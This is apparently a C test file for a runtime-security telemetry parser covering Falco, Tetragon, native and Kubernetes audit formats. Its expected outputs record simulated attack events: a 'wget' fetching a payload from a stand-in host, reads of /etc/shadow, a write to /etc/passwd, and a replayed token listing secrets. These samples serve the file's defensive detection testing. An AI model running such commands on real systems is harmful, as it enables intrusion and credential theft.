/* test_telemetry.c - the four telemetry formats, from realistic samples in
 * tests/data/telemetry/, and malformed lines counted while the rest of a
 * batch counts. */
#include <arpa/inet.h>
#include <check.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "doc.h"
#include "telemetry.h"
#include "xalloc.h"

#ifndef SOURCE_ROOT
#define SOURCE_ROOT "."
#endif

/* Each event as one comparable line. */
struct seen {
	char lines[64][512];
	size_t n;
};

static int record(void *ud, const struct telemetry_event *e)
{
	struct seen *s = ud;
	char *l = s->lines[s->n++ % 64];
	char addr[64] = "";

	if (e->ev.kind == RUNTIME_CONNECT)
		inet_ntop(e->ev.daddr.family == 4 ? AF_INET : AF_INET6, e->ev.daddr.bytes, addr, sizeof(addr));
	switch (e->ev.kind) {
	case RUNTIME_EXEC:
		snprintf(l, 512, "exec %s/%s c=%s id=%s node=%s t=%lld exe=%s args=%s", e->pod_namespace ? e->pod_namespace : "-",
			 e->pod_name ? e->pod_name : "-", e->ev.container ? e->ev.container : "-",
			 e->container_id ? e->container_id : "-", e->node ? e->node : "-", (long long)e->ev.time, e->ev.exe,
			 e->args ? e->args : "-");
		break;
	case RUNTIME_CONNECT:
		snprintf(l, 512, "connect %s/%s c=%s id=%s %s:%u/%s", e->pod_namespace ? e->pod_namespace : "-",
			 e->pod_name ? e->pod_name : "-", e->ev.container ? e->ev.container : "-",
			 e->container_id ? e->container_id : "-", addr, e->ev.dport, e->ev.protocol ? e->ev.protocol : "-");
		break;
	case RUNTIME_OPEN:
		snprintf(l, 512, "open %s/%s %s %s", e->pod_namespace ? e->pod_namespace : "-", e->pod_name ? e->pod_name : "-",
			 e->ev.write ? "write" : "read", e->ev.path);
		break;
	case RUNTIME_TOKEN:
		snprintf(l, 512, "token %s/%s uid=%s iat=%lld exp=%lld", e->pod_namespace, e->pod_name, e->pod_uid ? e->pod_uid : "-",
			 (long long)e->ev.iat, (long long)e->ev.exp);
		break;
	case RUNTIME_API:
		snprintf(l, 512, "api %s %s %s/%s/%s name=%s ns=%s bound=%s/%s ip=%s stale=%d legacy=%d node=%s podns=%s",
			 e->ev.username, e->ev.verb, e->ev.api_group, e->ev.resource ? e->ev.resource : "-",
			 e->ev.subresource ? e->ev.subresource : "-", e->ev.object_name ? e->ev.object_name : "-",
			 e->ev.object_namespace ? e->ev.object_namespace : "-", e->bound_pod_name ? e->bound_pod_name : "-",
			 e->bound_pod_uid ? e->bound_pod_uid : "-", e->source_ip ? e->source_ip : "-", e->ev.stale_token,
			 e->ev.legacy_token, e->node ? e->node : "-", e->pod_namespace);
		break;
	}
	return 0;
}

static void parse_file(enum telemetry_source src, const char *name, struct seen *s, struct telemetry_stats *st)
{
	char path[512], *data;
	size_t len;

	snprintf(path, sizeof(path), "%s/tests/data/telemetry/%s", SOURCE_ROOT, name);
	ck_assert_int_eq(doc_read_file(path, 1 << 20, &data, &len), 0);
	memset(s, 0, sizeof(*s));
	ck_assert_int_eq(telemetry_parse(src, data, len, record, s, st), 0);
	free(data);
}

START_TEST(test_native)
{
	struct seen s;
	struct telemetry_stats st;

	parse_file(TELEMETRY_NATIVE, "native.jsonl", &s, &st);
	ck_assert_uint_eq(st.accepted, 7);
	ck_assert_uint_eq(st.rejected, 0);
	ck_assert_str_eq(s.lines[0], "exec payments/payments-api-7d9f-x2 c=api id=- node=node-a t=1795341600 exe=/app/server args=--listen=:8080");
	ck_assert_str_eq(s.lines[2], "connect payments/payments-api-7d9f-x2 c=api id=- 10.96.14.2:5432/tcp");
	ck_assert_str_eq(s.lines[3], "connect -/- c=- id=containerd://9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a4f2a6c8e0b1d3f5a7c9e1b3d5f7a 10.96.0.10:53/udp");
	ck_assert_str_eq(s.lines[5], "open payments/payments-api-7d9f-x2 write /tmp/cache/session.db");
	ck_assert_str_eq(s.lines[6], "token payments/payments-api-7d9f-x2 uid=8a7c2e1f-9b3d-4c5e-8f7a-6b5c4d3e2f1a iat=1795340000 exp=1795343600");
}
END_TEST

START_TEST(test_falco)
{
	struct seen s;
	struct telemetry_stats st;

	parse_file(TELEMETRY_FALCO, "falco.json", &s, &st);
	ck_assert_uint_eq(st.accepted, 1);
	ck_assert_str_eq(s.lines[0], "exec payments/payments-api-7d9f-x2 c=api id=9c1e3b5d7f9a node=node-a t=1795341609 exe=/bin/sh args=sh -c id");
	parse_file(TELEMETRY_FALCO, "falco-lines.jsonl", &s, &st);
	ck_assert_uint_eq(st.accepted, 3);
	ck_assert_uint_eq(st.ignored, 1);       /* the host process */
	ck_assert_str_eq(s.lines[0], "connect payments/payments-api-7d9f-x2 c=api id=9c1e3b5d7f9a 203.0.113.9:443/tcp");
	ck_assert_str_eq(s.lines[1], "open payments/payments-api-7d9f-x2 read /etc/shadow");
	ck_assert_str_eq(s.lines[2], "open payments/payments-api-7d9f-x2 write /etc/passwd");
}
END_TEST

START_TEST(test_tetragon)
{
	struct seen s;
	struct telemetry_stats st;

	parse_file(TELEMETRY_TETRAGON, "tetragon.jsonl", &s, &st);
	ck_assert_uint_eq(st.accepted, 2);
	ck_assert_uint_eq(st.ignored, 1);       /* process_exit */
	ck_assert_str_eq(s.lines[0], "exec payments/payments-api-7d9f-x2 c=api id=containerd://9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a4f2a6c8e0b1d3f5a7c9e1b3d5f7a "
			 "node=node-a t=1795341614 exe=/usr/bin/wget args=-qO- http://203.0.113.9/payload");
	ck_assert_str_eq(s.lines[1], "connect payments/payments-api-7d9f-x2 c=api id=containerd://9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a4f2a6c8e0b1d3f5a7c9e1b3d5f7a 203.0.113.9:80/tcp");
}
END_TEST

START_TEST(test_audit)
{
	struct seen s;
	struct telemetry_stats st;

	parse_file(TELEMETRY_AUDIT, "audit.json", &s, &st);
	ck_assert_uint_eq(st.accepted, 4);
	ck_assert_uint_eq(st.ignored, 2);       /* RequestReceived, a person */
	ck_assert_uint_eq(st.rejected, 0);
	ck_assert_str_eq(s.lines[0], "api system:serviceaccount:payments:payments-api get /configmaps/- name=payments-api-config ns=payments "
			 "bound=payments-api-7d9f-x2/8a7c2e1f-9b3d-4c5e-8f7a-6b5c4d3e2f1a ip=10.244.1.7 stale=0 legacy=0 node=node-a podns=payments");
	ck_assert_str_eq(s.lines[1], "api system:serviceaccount:payments:payments-api list /secrets/- name=- ns=payments "
			 "bound=payments-api-7d9f-x2/8a7c2e1f-9b3d-4c5e-8f7a-6b5c4d3e2f1a ip=203.0.113.9 stale=1 legacy=0 node=- podns=payments");
	ck_assert_str_eq(s.lines[2], "api system:serviceaccount:payments:legacy-job update apps/deployments/scale name=payments-api ns=payments "
			 "bound=-/- ip=10.244.2.9 stale=0 legacy=1 node=- podns=payments");
	ck_assert_str_eq(s.lines[3], "api system:serviceaccount:payments:payments-api get /-/- name=- ns=- bound=-/- ip=10.244.1.7 "
			 "stale=0 legacy=0 node=- podns=payments");
}
END_TEST

START_TEST(test_bad_lines_counted)
{
	static const char body[] =
		"{\"kind\":\"exec\",\"time\":\"2026-11-22T10:00:00Z\",\"pod\":{\"namespace\":\"a\",\"name\":\"b\"},\"exe\":\"/bin/x\"}\n"
		"not json at all\n"
		"{\"kind\":\"exec\",\"time\":\"yesterday\",\"pod\":{\"namespace\":\"a\",\"name\":\"b\"},\"exe\":\"/bin/x\"}\n"
		"\n   \n"
		"{\"kind\":\"exec\",\"time\":\"2026-11-22T10:00:00Z\",\"exe\":\"/bin/x\"}\n"
		"{\"kind\":\"teleport\",\"time\":\"2026-11-22T10:00:00Z\",\"pod\":{\"namespace\":\"a\",\"name\":\"b\"}}\n"
		"{\"kind\":\"connect\",\"time\":\"2026-11-22T10:00:00Z\",\"pod\":{\"namespace\":\"a\",\"name\":\"b\"},\"daddr\":\"10.0.0.1\",\"dport\":70000}\n"
		"{\"kind\":\"exec\",\"time\":\"2026-11-22T10:00:00Z\",\"pod\":{\"namespace\":\"a\",\"name\":\"b\"},\"exe\":\"relative\"}\n"
		"{\"kind\":\"open\",\"time\":\"2026-11-22T10:00:00+02:00\",\"pod\":{\"uid\":\"u\"},\"path\":\"/x\",\"write\":true}";
	struct seen s = { 0 };
	struct telemetry_stats st;

	ck_assert_int_eq(telemetry_parse(TELEMETRY_NATIVE, body, strlen(body), record, &s, &st), 0);
	ck_assert_uint_eq(st.accepted, 2);
	ck_assert_uint_eq(st.rejected, 6);
	ck_assert_ptr_nonnull(strstr(st.first_error, "malformed JSON"));
}
END_TEST

static int stop(void *ud, const struct telemetry_event *e)
{
	return -ECANCELED;
}

START_TEST(test_limits_and_stop)
{
	char *big = malloc(TELEMETRY_MAX_LINE + 100);
	struct seen s = { 0 };
	struct telemetry_stats st;
	const char *line = "{\"kind\":\"exec\",\"time\":\"2026-11-22T10:00:00Z\",\"pod\":{\"namespace\":\"a\",\"name\":\"b\"},\"exe\":\"/bin/x\"}\n";

	memset(big, 'x', TELEMETRY_MAX_LINE + 10);
	big[TELEMETRY_MAX_LINE + 10] = '\n';
	ck_assert_int_eq(telemetry_parse(TELEMETRY_NATIVE, big, TELEMETRY_MAX_LINE + 11, record, &s, &st), 0);
	ck_assert_uint_eq(st.rejected, 1);
	ck_assert_ptr_nonnull(strstr(st.first_error, "256 KiB"));
	free(big);
	ck_assert_int_eq(telemetry_parse(TELEMETRY_NATIVE, line, strlen(line), stop, NULL, &st), -ECANCELED);
}
END_TEST

/* sourceIPs begins with X-Forwarded-For, which the client writes: the
 * connection's address (last) is the one a replay is judged on. */
START_TEST(test_audit_source_ip_is_the_connection)
{
	static const char body[] =
		"{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"stage\":\"ResponseComplete\",\"verb\":\"get\","
		"\"user\":{\"username\":\"system:serviceaccount:payments:api\"},\"sourceIPs\":[\"10.244.1.7\",\"203.0.113.9\"],"
		"\"objectRef\":{\"resource\":\"configmaps\",\"namespace\":\"payments\"},\"stageTimestamp\":\"2026-11-22T10:00:00Z\"}";
	struct seen s = { 0 };
	struct telemetry_stats st;

	ck_assert_int_eq(telemetry_parse(TELEMETRY_AUDIT, body, strlen(body), record, &s, &st), 0);
	ck_assert_uint_eq(st.accepted, 1);
	ck_assert_ptr_nonnull(strstr(s.lines[0], "ip=203.0.113.9"));
}
END_TEST

START_TEST(test_times)
{
	ck_assert_int_eq(telemetry_time("2026-11-22T10:00:00Z"), 1795341600);
	ck_assert_int_eq(telemetry_time("2026-11-22T10:00:00.123456789Z"), 1795341600);
	ck_assert_int_eq(telemetry_time("2026-11-22T12:00:00+02:00"), 1795341600);
	ck_assert_int_eq(telemetry_time("2026-11-22T08:30:00-01:30"), 1795341600);
	ck_assert_int_eq(telemetry_time("yesterday"), -1);
	ck_assert_int_eq(telemetry_time(NULL), -1);
	/* the one RFC 3339 reader: a malformed offset is no time (it once
	 * read as -20 hours), nor a time without a zone or with a tail */
	ck_assert_int_eq(telemetry_time("2026-11-22T12:00:00+0a:00"), -1);
	ck_assert_int_eq(telemetry_time("2026-11-22T10:00:00"), -1);
	ck_assert_int_eq(telemetry_time("2026-11-22T12:00:00+02:00:00"), -1);
	ck_assert_int_eq(telemetry_time("2026-11-22T10:00:00Zjunk"), -1);
}
END_TEST

static int count(void *ud, const struct telemetry_event *e)
{
	(*(size_t *)ud)++;
	return 0;
}

/* Every allocation of a batch fails in turn: the parse ends with -ENOMEM
 * (or, when only one line's arena failed... no: any failure is -ENOMEM),
 * nothing leaks, and no event is delivered half-built. */
START_TEST(test_alloc_failures)
{
	static const char *const files[] = { "native.jsonl", "falco-lines.jsonl", "tetragon.jsonl", "audit.json" };
	static const enum telemetry_source srcs[] = { TELEMETRY_NATIVE, TELEMETRY_FALCO, TELEMETRY_TETRAGON, TELEMETRY_AUDIT };

	for (size_t k = 0; k < 4; k++) {
		char path[512], *data;
		size_t len, n = 0;
		struct telemetry_stats st;
		long total;

		snprintf(path, sizeof(path), "%s/tests/data/telemetry/%s", SOURCE_ROOT, files[k]);
		ck_assert_int_eq(doc_read_file(path, 1 << 20, &data, &len), 0);
		pg_alloc_fail_at(1L << 40);
		ck_assert_int_eq(telemetry_parse(srcs[k], data, len, count, &n, &st), 0);
		total = pg_alloc_count();
		for (long i = 0; i < total; i++) {
			int r;

			n = 0;
			pg_alloc_fail_at(i);
			r = telemetry_parse(srcs[k], data, len, count, &n, &st);
			pg_alloc_fail_at(-1);
			ck_assert_msg(r == -ENOMEM, "%s: allocation %ld of %ld failed, parse gave %d", files[k], i, total, r);
			ck_assert_uint_eq(st.accepted, n);
		}
		pg_alloc_fail_at(-1);
		free(data);
	}
}
END_TEST

int main(void)
{
	Suite *s = suite_create("telemetry");
	TCase *tc = tcase_create("telemetry");
	SRunner *sr;
	int failed;

	tcase_add_test(tc, test_native);
	tcase_add_test(tc, test_falco);
	tcase_add_test(tc, test_tetragon);
	tcase_add_test(tc, test_audit);
	tcase_add_test(tc, test_bad_lines_counted);
	tcase_add_test(tc, test_limits_and_stop);
	tcase_add_test(tc, test_times);
	tcase_add_test(tc, test_audit_source_ip_is_the_connection);
	tcase_add_test(tc, test_alloc_failures);
	suite_add_tcase(s, tc);
	sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
